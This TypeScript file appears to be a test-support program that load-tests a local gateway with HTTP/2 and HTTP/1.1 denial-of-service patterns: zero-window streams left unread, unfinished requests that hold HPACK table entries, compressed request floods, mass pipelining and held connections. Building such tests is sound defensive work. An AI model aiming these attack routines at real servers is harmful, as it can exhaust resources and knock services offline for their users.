import { once } from 'node:events';
import { connect, type TLSSocket } from 'node:tls';
import { indexed, literal, NEWEST_ENTRY } from '../../support/hpack.ts';
import {
  FRAME,
  frame,
  headerBlock,
  headersFrame,
  PREFACE,
  requestFields,
  SETTING,
  uint32,
} from '../../support/http2-frames.ts';

/**
 * A program that attacks a gateway on this machine until its standard input ends:
 * `node attacker.ts <port> <connections> <shape>…`. All connections come from 127.0.0.0/24, and are divided among the shapes.
 */

const STREAMS = 100;

interface Connection {
  readonly socket: TLSSocket;
  /** The next stream id. */
  nextStream: number;
}

type Shape = 'http1' | { readonly settings: readonly (readonly [number, number])[] };

const settingsFrame = (settings: readonly (readonly [number, number])[]): Buffer =>
  frame(
    FRAME.settings,
    0,
    0,
    Buffer.concat(
      settings.map(([id, value]) => {
        const bytes = Buffer.alloc(6);
        bytes.writeUInt16BE(id);
        bytes.writeUInt32BE(value, 2);
        return bytes;
      }),
    ),
  );

const NO_WINDOW: Shape = { settings: [[SETTING.initialWindowSize, 0]] };
const WIDE_WINDOW: Shape = { settings: [[SETTING.initialWindowSize, 0x7fffffff]] };

const takeStream = (connection: Connection): number => {
  const stream = connection.nextStream;
  connection.nextStream += 2;
  return stream;
};

const requestAll =
  (path: string) =>
  (connection: Connection): void => {
    const block = headerBlock(requestFields(path));
    const frames = Array.from({ length: STREAMS }, () => headersFrame(takeStream(connection), block));
    connection.socket.write(Buffer.concat(frames));
  };

/** A path in the dynamic table, to which each further request refers with one byte. */
const longPath = (path: string): Buffer =>
  Buffer.concat([
    headerBlock(requestFields(path).filter(([name]) => name !== ':path')),
    literal(':path', path, 'incremental'),
  ]);
const shortPath = (): Buffer =>
  Buffer.concat([headerBlock(requestFields('/').filter(([name]) => name !== ':path')), indexed(NEWEST_ENTRY)]);

/** Sends requests as fast as the connection takes them; refused and reset streams make room. */
const flood =
  (path: string, perSecond: number) =>
  (connection: Connection): void => {
    const { socket } = connection;
    socket.write(headersFrame(takeStream(connection), longPath(path)));
    const short = shortPath();
    const timer = setInterval(() => {
      if (socket.writableLength > 65_536) return;
      const frames = Array.from({ length: Math.ceil(perSecond / 20) }, () =>
        headersFrame(takeStream(connection), short),
      );
      socket.write(Buffer.concat(frames));
    }, 50);
    socket.once('close', () => clearInterval(timer));
  };

interface Attack {
  readonly shape: Shape;
  /** Whether the client reads what it receives. */
  readonly reads: boolean;
  /** Open another connection for each one that is closed. */
  readonly reconnects?: boolean;
  run(connection: Connection): void;
}

const HELD_FIELD = '~'.repeat(3_900);
const unfinished = (connection: Connection): void => {
  const block = Buffer.concat([
    headerBlock([
      ...requestFields('/authsvc/oauth2/token', 'POST'),
      ['content-type', 'application/x-www-form-urlencoded'],
    ]),
  ]);
  const { socket } = connection;
  socket.write(
    headersFrame(takeStream(connection), Buffer.concat([block, literal('x-held', HELD_FIELD, 'incremental')]), {
      end: false,
    }),
  );
  const rest = Buffer.concat([block, ...Array.from({ length: 3 }, () => indexed(NEWEST_ENTRY))]);
  const frames = Array.from({ length: STREAMS - 1 }, () => headersFrame(takeStream(connection), rest, { end: false }));
  socket.write(Buffer.concat(frames));
};

const pipeline =
  (path: string, count: number) =>
  ({ socket }: Connection): void => {
    socket.write(`GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(count));
  };

const repeatEvery =
  (ms: number, run: (connection: Connection) => void) =>
  (connection: Connection): void => {
    run(connection);
    const timer = setInterval(() => run(connection), ms);
    connection.socket.once('close', () => clearInterval(timer));
  };

const ESCAPED_PATH = `/${'%41'.repeat(900)}`;

const ATTACKS: Readonly<Record<string, Attack>> = {
  'unread-documents': { shape: NO_WINDOW, reads: true, run: requestAll('/authsvc/openapi.json') },
  'unread-responses': { shape: NO_WINDOW, reads: true, run: requestAll('/public/large') },
  'unread-connections': { shape: WIDE_WINDOW, reads: false, run: requestAll('/public/large') },
  'unfinished-requests': { shape: WIDE_WINDOW, reads: true, run: unfinished },
  'pipelined-responses': { shape: 'http1', reads: false, run: pipeline('/public/large', 120) },
  'pipelined-documents': { shape: 'http1', reads: false, run: pipeline('/authsvc/openapi.json', 120) },
  'pipelined-pages': {
    shape: 'http1',
    reads: true,
    reconnects: true,
    run: repeatEvery(100, pipeline('/authsvc/device/sign-in', 100)),
  },
  'held-connections': {
    shape: 'http1',
    reads: true,
    reconnects: true,
    run: repeatEvery(5_000, pipeline('/public/small', 1)),
  },
  'long-paths': { shape: WIDE_WINDOW, reads: true, reconnects: true, run: flood(ESCAPED_PATH, 20) },
  pages: { shape: WIDE_WINDOW, reads: true, reconnects: true, run: flood('/authsvc/device/sign-in', 20) },
};

const [port = '', count = '', ...names] = process.argv.slice(2);
let isEnding = false;
let opened = 0;
let closed = 0;

async function open(index: number): Promise<void> {
  const attack = ATTACKS[names[index % names.length] ?? ''];
  if (attack === undefined) throw new Error(`unknown shape ${names[index % names.length]}`);
  const options = {
    host: '127.0.0.1',
    port: Number(port),
    localAddress: `127.0.0.${2 + (index % 250)}`,
    ALPNProtocols: attack.shape === 'http1' ? ['http/1.1'] : ['h2'],
    rejectUnauthorized: false,
  };
  const socket = connect(options);
  socket.on('error', () => {});
  socket.once('close', () => {
    closed += 1;
    if (attack.reconnects === true && !isEnding) setTimeout(() => void open(index), 100);
  });
  await once(socket, 'secureConnect').catch(() => {});
  if (socket.destroyed) return;
  opened += 1;
  const connection = { socket, nextStream: 1 };
  if (attack.shape !== 'http1') {
    socket.write(PREFACE);
    socket.write(settingsFrame(attack.shape.settings));
    socket.write(frame(FRAME.windowUpdate, 0, 0, uint32(0x7fff0000)));
  }
  if (attack.reads) socket.resume();
  else socket.pause();
  attack.run(connection);
}

for (let index = 0; index < Number(count); index += 1) {
  void open(index);
  if (index % 20 === 19) await new Promise((resolve) => setTimeout(resolve, 20));
}
const report = setInterval(() => console.log(JSON.stringify({ opened, closed })), 1_000);
process.stdin.resume().once('end', () => {
  isEnding = true;
  clearInterval(report);
  process.exit(0);
});
